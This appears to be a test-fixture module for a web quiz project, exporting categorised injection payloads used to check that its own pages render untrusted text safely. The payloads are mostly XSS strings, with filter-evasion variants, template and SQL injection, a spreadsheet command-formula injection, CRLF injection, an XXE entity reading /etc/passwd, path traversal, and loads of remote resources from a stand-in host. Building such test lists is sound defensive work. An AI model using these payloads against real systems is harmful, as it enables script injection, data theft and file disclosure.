// What somebody who means harm would write where words are expected: of our own making, in part by rule. Wherever code
// could run it calls `alert`, which the first script of every page under test writes down. Each is short enough for the
// shortest text of a document.

/** @typedef {{ kind: string, text: string }} Payload */

/** Bytes that the shortest text may have: a step of a scale. */
export const LONGEST = 200;

/** Elements that run, load or open something by themselves, or hide what follows. */
const ELEMENTS = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<svg onload=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<iframe src=javascript:parent.alert(1)>",
  "<object data='data:text/html,<script>alert(1)</script>'>",
  "<embed src=//stranger.example/a.swf>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1) autoplay>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)><summary>more</summary>",
  "<style>@import '//stranger.example/a.css'; * { display: none }</style>",
  "<link rel=stylesheet href=//stranger.example/a.css>",
  "<meta http-equiv=refresh content='0;url=//stranger.example/'>",
  "<base href=//stranger.example/>",
  "<form action=//stranger.example/><button formaction=javascript:alert(1)>Next</button>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
  "<metier-quiz src=//stranger.example/quiz.json></metier-quiz>",
  "<textarea autofocus onfocus=alert(1)>",
  "<dialog open>Your session has ended</dialog>",
];

/** Ways to get them past somebody who looks for one form. @type {((text: string) => string)[]} */
const DISGUISES = [
  (text) => text,
  (text) => `x" y='>${text}`,
  (text) => text.replaceAll("<", "&#x3c;").replaceAll(">", "&gt;"),
  (text) =>
    text
      .replace(/script|alert/g, (word) => word.toUpperCase())
      .replaceAll(">", " ")
      .trimEnd(),
];

const MARKUP = ELEMENTS.flatMap((text) => DISGUISES.map((disguise) => disguise(text)));

/** What ends a piece of a page before its time. */
const ENDS = [
  "<!--",
  "--!><img src=x onerror=alert(1)>",
  "]]><script>alert(1)</script>",
  "<![CDATA[<img src=x onerror=alert(1)>",
  "</title><script>alert(1)</script>",
  "</textarea><svg/onload=alert(1)>",
  "</script><script>alert(1)</script>",
  "</style><img src=x onerror=alert(1)>",
  "</template></div></section></metier-quiz><img src=x onerror=alert(1)>",
  "<?xml version='1.0'?><?php alert(1) ?>",
  "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
  "<plaintext>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
];

/** Drawings and formulas, in which other rules hold. */
const FOREIGN = [
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)><a><text>Next</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",
  "<svg><script href=data:,alert(1) /></svg>",
  "<svg><style>*{background:url(//stranger.example/a)}</style></svg>",
  "<svg><image href=//stranger.example/a.png></svg>",
  "<svg><a xlink:href=javascript:alert(1)><rect width=999 height=999 /></a></svg>",
  "<svg><filter><feImage href=//stranger.example/a /></filter></svg>",
  "<svg><title><img src=x onerror=alert(1)></title></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<math href=javascript:alert(1)><mtext>Next</mtext></math>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
  "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
];

/** Markup that changes its meaning when it is read, written and read again. */
const MUTATING = [
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<table><caption><svg><desc><table><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<a title='``onmouseover=alert(1)'>Next</a>",
  "<b><a><b><a><b><a><b><img src=x onerror=alert(1)></a></b></a>",
  "<p><svg><p><style><!--</p></svg><img src=x onerror=alert(1)>-->",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<img alt='<x' title='/><img src=x onerror=alert(1)>'>",
  "<template><template><s><template><s><img src=x onerror=alert(1)>",
];

/** Placeholders of programs that fill them in: others', and ours. */
const TEMPLATES = [
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "{% include '/etc/passwd' %}",
  "[[${alert(1)}]]",
  "<div ng-app ng-csp ng-click=$event.view.alert(1)>Next</div>",
  "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
  "<div x-data x-init=alert(1)></div>",
  "<p @click=alert(1) :href=alert(1) #x *ngIf=alert(1)>",
  "<!--?lit$0$-->",
  "{count} {n} {total} {level} {title} {quiz}",
  "[[preload]] [[script]] {{policy}} {{body}}",
  "$& $1 $` $' $$ $<name>",
  "%s %d %n %c %o",
  "\\0 \\1 \\x00 \\u{0}",
  "@@iterator __webpack_require__",
  "<slot name=result></slot>",
  '<script type=speculationrules>{"prefetch":[{"urls":["//stranger.example/"]}]}</script>',
];

const TRICKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript%3Aalert(1)",
  "jav\u00adascript:alert(1)",
  "jav\u0131script:alert(1)",
  "javascript\u2236alert(1)",
  "javascript://https://example.org/%0Aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
  "vbscript:msgbox(1)",
  "blob:https://stranger.example/1",
  "filesystem:https://stranger.example/1",
  "file:///etc/passwd",
  "about:blank",
  "view-source:https://stranger.example",
  "intent://stranger.example#Intent;end",
  "mailto:somebody@stranger.example",
  "tel:+15550100",
  "ws://stranger.example",
  "http://stranger.example/",
  "//stranger.example/",
  "\\\\stranger.example\\share",
  "/\\stranger.example",
  "https:stranger.example",
  "https:/stranger.example",
  "https:\\\\stranger.example",
  "https://good.example@stranger.example/",
  "https://good.example:secret@stranger.example/",
  "https://good.example\u3002stranger.example/",
  "https://good.example\uff0fstranger.example/",
  "https://\u0455tranger.example/",
  "https://xn--tranger-9of.example/",
  "https://127.0.0.1/",
  "https://[::1]/",
  "https://0x7f000001/",
  "https://localhost:1/",
  "https://stranger.example:99999/",
  "https://",
  "https://[",
  "https://stranger.example/?q=<script>alert(1)</script>",
  'https://stranger.example/#" onclick=alert(1) x="',
  "https://stranger.example/\u202egpj.exe",
  "https://stranger.example/ with a space",
  "https://stranger.example/a)b(c",
  "../../../etc/passwd",
  "?quiz=stranger",
  "#r=AAAA",
  './a"onmouseover="alert(1)',
];

/** Addresses alone, as where an address is expected, and as links in a text. */
const ADDRESSES = TRICKS.flatMap((address, index) => [
  address,
  index % 3 ? `[press here](${address})` : `<${address}> ![x](${address})`,
]);

/** What nobody sees, and what turns the direction of what they see: between two words, each by itself. */
const UNSEEN = [
  ..."\u0000\u0001\u0007\u0008\u000b\u001b\u007f\u0080\u0085\u009f",
  ..."\u00ad\u034f\u061c\u115f\u1160\u17b4\u180e\u3164\uffa0",
  ..."\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e",
  ..."\u2060\u2061\u2064\u2066\u2067\u2068\u2069\u206a\u206f\ufeff\ufff9\ufffb\ufffc\ufffe\uffff",
  "\u{e0001}",
  "\u{e0041}\u{e007f}",
  "\u{1d173}",
  "\ufe0f\ufe0f\ufe0f",
  "\ud83d\udc69\u200d\ud83d\udcbb\u200d\u200d",
].map((unseen) => `good ${unseen}gnp.exe`);

/** Names that objects and pages have already. */
const NAMES = [
  ..."constructor prototype __proto__ hasOwnProperty toString valueOf then length item name id".split(" "),
  ..."document window self top parent frames location body forms images cookie domain".split(" "),
  ..."defaultView getElementById nodeName attributes children textContent innerHTML onerror script".split(" "),
  ..."intro question review result error always superhero null undefined true NaN 0 -1 1e999".split(" "),
];

/** Style and events that would hold where a text gets into an attribute. */
const ATTRIBUTES = [
  '" style="position:fixed;inset:0;background:#fff',
  "' style='all:initial",
  'x" onmouseover="alert(1)',
  "x' onfocus='alert(1)' autofocus tabindex='1",
  "x onpointerenter=alert(1) x",
  "` onclick=`alert(1)`",
  '"><b style="animation:x" onanimationstart="alert(1)">',
  '" contenteditable onbeforeinput="alert(1)',
  '" popover popovertarget="x" onbeforetoggle="alert(1)',
  '" is="metier-quiz" src="//stranger.example/',
  '" slot="result" part="main" id="screen" class="main',
  '" form="x" formaction="javascript:alert(1)',
  '" srcset="//stranger.example/a.png 1x" ping="//stranger.example/',
  "--at: 9; flex-grow: 99; color: red",
  "red; background: url(//stranger.example/a)",
  "expression(alert(1)); -moz-binding: url(//stranger.example/a)",
  "} * { display: none } .x {",
  "*/ body { display: none } /*",
  "@import url(//stranger.example/a.css);",
  "url(javascript:alert(1))",
];

/** Of other languages that a text may be taken into. */
const TONGUES = [
  '"}],"results":[],"x":"',
  '\\",\\"polluted\\":true,\\"',
  "');alert(1);//",
  '";alert(1);//',
  "`;alert(1);//",
  "*/alert(1)/*",
  "=cmd|'/c calc'!A1",
  '+HYPERLINK("//stranger.example")',
  "@SUM(1,1)",
  "-2+3",
  "'; DROP TABLE results; --",
  "$(alert 1) `alert 1` && alert 1",
  "--help",
  "../../www/quizzes/pace.json",
  "con.txt:stream",
  "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
];

/** Marks of a text, crossed and left open, with markup in them. */
const MARKS = [
  "*<b>*</b>",
  "**<img src=x onerror=alert(1)>**",
  "`<img src=x onerror=alert(1)>`",
  "[<img src=x onerror=alert(1)>](https://stranger.example/)",
  "[press](https://stranger.example/ 'x\" onclick=alert(1) y=\"')",
  "[press](<javascript:alert(1)>)",
  "[press][1]\n\n[1]: javascript:alert(1)",
  '![x](x"onerror="alert(1))',
  "<https://stranger.example/>",
  "[a](https://stranger.example/)[b](https://stranger.example/",
  "**a *b `c** d* e`",
  "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[a]]]]]]]]]]]]]]]]",
  "********************************a",
  "- one\n- <script>alert(1)</script>\n\n1. two\n2. <svg onload=alert(1)>",
  "999999999. far\n\n-1. less\n\n1) other",
  "# heading\n\n> quoted\n\n---\n\n| a | b |\n|---|---|",
  "```html\n<script>alert(1)</script>\n```",
  "    <script>alert(1)</script>",
  "a\\\n\\<script>alert(1)\\</script>",
  "~~a~~ ^b^ ==c== :smile: @somebody #1",
];

/** Letters under so many marks that they reach into the lines around them, and other letters that are large. */
const TALL = [
  ..."\u0301\u0315\u0336\u0489\u20dd\u20e0\u0e49\u0f71\u1ab0\ufe20".split("").map((mark) => `a${mark.repeat(40)} b`),
  "\ufdfd\ufdfd\ufdfd\ufdfd",
  "\u{1242b}\u{12031}\u{12219}",
  "\u0bf5\u102a\ua9c5",
  "A".repeat(190),
  "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 <b>abc</b>",
];

/** @type {Payload[]} */
export const PAYLOADS = Object.entries({
  markup: MARKUP,
  ends: ENDS,
  foreign: FOREIGN,
  mutating: MUTATING,
  templates: TEMPLATES,
  addresses: ADDRESSES,
  unseen: UNSEEN,
  names: NAMES,
  attributes: ATTRIBUTES,
  tongues: TONGUES,
  marks: MARKS,
  tall: TALL,
}).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));
